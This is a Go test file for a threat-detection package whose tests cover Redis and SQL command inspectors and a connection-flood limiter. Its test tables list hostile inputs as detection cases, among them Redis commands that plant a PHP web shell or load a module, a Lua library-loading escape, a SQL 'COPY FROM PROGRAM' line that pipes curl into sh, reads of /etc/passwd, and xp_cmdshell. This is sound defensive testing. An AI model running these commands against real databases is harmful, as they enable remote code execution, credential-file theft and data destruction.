package threat

import (
	"strings"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"
)

func TestInspectRedis(t *testing.T) {
	split := func(s string) ([]byte, [][]byte) {
		f := strings.Fields(s)
		var args [][]byte
		for _, a := range f[1:] {
			args = append(args, []byte(a))
		}
		return []byte(f[0]), args
	}
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"CONFIG SET dir /var/www/html", true}, {"config set dbfilename shell.php", true}, {"CONFIG GET maxmemory", false},
		{"SLAVEOF 10.0.0.9 6379", true}, {"REPLICAOF evil 6379", true}, {"MODULE LOAD /tmp/exp.so", true},
		{"MODULE LIST", false}, {"DEBUG SEGFAULT", true}, {"FLUSHALL", true}, {"GET user:1", false}, {"SET k v", false},
		{"EVAL return redis.call('get',KEYS[1]) 1 k", false},
		{`EVAL local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); 0`, true},
		{"HSET session:1 note CONFIG", false},
	} {
		cmd, args := split(c.cmd)
		f := InspectRedis(cmd, args, false, nil)
		if got := len(f) > 0; got != c.want {
			t.Errorf("%q: finding=%v want %v (%v)", c.cmd, got, c.want, f)
		}
		if len(f) > 0 && f[0].Detector != RedisDangerousCommand {
			t.Errorf("%q: detector %s", c.cmd, f[0].Detector)
		}
		if f := InspectRedis(cmd, args, true, nil); len(f) != 0 {
			t.Errorf("%q from an allowed source: %v", c.cmd, f)
		}
	}
}

func TestInspectSQL(t *testing.T) {
	for _, c := range []struct {
		q    string
		want bool
	}{
		{"DROP TABLE users", true}, {"drop   table if exists users;", true}, {"TRUNCATE orders", true},
		{"COPY t FROM PROGRAM 'curl http://x | sh'", true}, {"copy (select 1) to program 'id'", true},
		{"SELECT LOAD_FILE('/etc/passwd')", true}, {"SELECT load_file ('/etc/passwd')", true},
		{"SELECT * FROM users INTO OUTFILE '/var/www/x.php'", true}, {"EXEC master..xp_cmdshell 'dir'", true},
		{"SELECT pg_read_file('/etc/passwd')", true}, {"DR/**/OP TABLE x", false}, {"/* hi */ DROP /* x */ TABLE x", true},
		{"SELECT * FROM users WHERE id = 1", false}, {"INSERT INTO notes(body) VALUES ('please drop table x')", false},
		{"SELECT program FROM courses", false}, {"UPDATE t SET shutdown_at = now()", false},
		{"SELECT truncate(price, 2) FROM items", false}, {"-- drop table x\nSELECT 1", false},
		{"SELECT $$ DROP TABLE x $$", false},
	} {
		f := InspectSQL([]byte(c.q), false, nil)
		if got := len(f) > 0; got != c.want {
			t.Errorf("%q: finding=%v want %v (%q)", c.q, got, c.want, normaliseSQL([]byte(c.q)))
		}
	}
	if f := InspectSQL([]byte("DROP TABLE x"), true, nil); len(f) != 0 {
		t.Errorf("allowed source flagged: %v", f)
	}
}

func TestFloods(t *testing.T) {
	clk := clockwork.NewFakeClock()
	fd, err := NewFlood(FloodConfig{Clock: clk, ConnRate: 10, ConnBurst: 20, MaxSources: 50, Cooldown: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	// A steady 10/s never trips; a burst of 100 in one instant does, with one finding.
	for i := 0; i < 200; i++ {
		if ok, f := fd.Connection("10.0.0.1", nil); !ok || len(f) > 0 {
			t.Fatalf("steady rate flagged at %d: %v", i, f)
		}
		clk.Advance(100 * time.Millisecond)
	}
	var findings []Finding
	refused := 0
	for i := 0; i < 100; i++ {
		var ok bool
		ok, findings = fd.Connection("10.0.0.2", findings)
		if !ok {
			refused++
		}
	}
	if refused != 80 || len(findings) != 1 || findings[0].Detector != ConnectionFlood {
		t.Fatalf("refused %d, findings %v", refused, findings)
	}
	// After the cooldown a continuing flood reports again.
	clk.Advance(11 * time.Second)
	for i := 0; i < 200; i++ {
		_, findings = fd.Connection("10.0.0.2", findings)
	}
	if len(findings) != 2 {
		t.Fatalf("want a second finding after the cooldown, got %d", len(findings))
	}
	if ok, f := fd.Request("10.0.0.2", nil); !ok || len(f) != 0 {
		t.Fatal("request bucket shares the connection bucket")
	}
	for i := 0; i < 500; i++ {
		fd.Request(string(rune('a'+i%26))+string(rune('a'+i/26)), nil)
	}
	if n := fd.Tracked(); n != 50 {
		t.Fatalf("tracked %d sources, want 50", n)
	}
}
